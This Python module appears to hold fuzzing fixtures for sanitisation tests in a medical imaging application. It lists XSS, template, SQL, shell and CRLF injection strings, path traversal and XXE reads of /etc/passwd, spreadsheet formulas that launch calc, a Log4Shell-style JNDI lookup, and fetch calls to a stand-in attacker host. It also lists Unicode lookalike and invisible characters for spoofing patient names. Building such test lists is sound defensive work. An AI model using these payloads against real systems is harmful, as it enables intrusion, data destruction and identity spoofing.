"""Strings that do harm where a page, a shell, a sheet or a template takes them for its own."""

_CALL = "alert(1)"
MARKUP = (
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", f"</script><script>{_CALL}</script>",
    f"<script/x>{_CALL}</script>", f"<img src=x onerror={_CALL}>", f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>", f"<svg onload={_CALL}>", f"<svg/onload={_CALL}//", f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}>", f"<a href=javascript:{_CALL}>x</a>", f'" onmouseover="{_CALL}',
    f"' onfocus='{_CALL}' autofocus='", f"` onerror=`{_CALL}`", f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>", f"<video><source onerror={_CALL}>",
    f"<math><mi//xlink:href='data:x,{_CALL}'>", f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>", f"<marquee onstart={_CALL}>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>", "<form action=//evil.example><input name=pin>", "<textarea>",
    "</textarea><script>1</script>", "</title><script>1</script>", "<!--", "-->", "--!><script>1</script>",
    "<![CDATA[<script>1</script>]]>", "]]><script>1</script>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;",
    "&#x3C;script>", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
    "\uff1cscript\uff1e", "<\u200bscript>", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "{% debug %}",
    "{% load log %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{7*7}", "%{7*7}", "@(7*7)",
    "[[7*7]]", "${jndi:ldap://evil.example/a}", "{{=it.x}}", f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}", "data:text/html,<script>1</script>", "vbscript:1", "'; DROP TABLE imaging_study; --",
    "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(9)", "\\'; --", "%' OR 1=1 --", "$$;x$$", "`id`", "$(id)",
    "; id", "| id", "&& id", "\n id", "%0a id", "../../../../etc/passwd", "..\\..\\x", "file:///etc/passwd",
    "a\r\nSet-Cookie: a=b", "a\r\n\r\n<script>", "a%0d%0aX: y", "x\u2028y", "x\u2029y", "\u0085", "\x00<script>",
    "%s%s%s%n", "%x" * 9, "{0.__class__}", "{self}", "%(password)s", "__proto__", "constructor[prototype]",
    "toString", "hasOwnProperty", "NaN", "null", "<script>fetch('//evil.example')</script>", "<x onclick=1>",
    "<scr<script>ipt>", "<<script>", "<script\n>", "<script\t>", "<a/href='j&#97;vascript:1'>",
    "<svg><script>1</script></svg>", "<template><script>1</script></template>", "<noscript><p title='</noscript>",
    "hx-get=//evil.example", "<div hx-get=//evil.example hx-trigger=load>", "<img srcset=//evil.example>",
    "<button formaction=javascript:1>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x\",\"y\")", "=IMPORTXML(\"http://x\",\"//a\")", "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "a;=1+1", "a,=1+1",
    "\"=1+1\"", "'=1+1", "a\"\n=1+1", "a\";=1", "-2+3+cmd|' /C calc'!A0", "@x", "=A1", "=-1", "+-1", "%=1", "|=1",
)  # fmt: skip
_MARKS = (
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",  # direction
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u2061\u2062\u2063\u2064\u206a\u206f\ufff9\ufffb",  # no width
    *"\u115f\u1160\u3164\uffa0\u2800\u17b4",  # blank
    *"\0\1\x07\x08\x1b\x7f\x80\x85\x9b\u2028\u2029\ue000\uf8ff\ufffe\uffff",  # control, private, nothing
    "\U000e0041\U000e007f", "\U0001d173", "\U0010ffff", "\u0300" * 60, "e\u0301\u0302\u0303" * 20,
    "\x1b[2J", "\x1b]0;x\x07", "\b\b\b\b", "\u0435", "\u0430", "\u0131", "\u017f", "\u212a", "\ufb01",
)  # fmt: skip
DECEPTIONS = tuple(f"Doe{mark}^Jane{mark}" for mark in _MARKS)
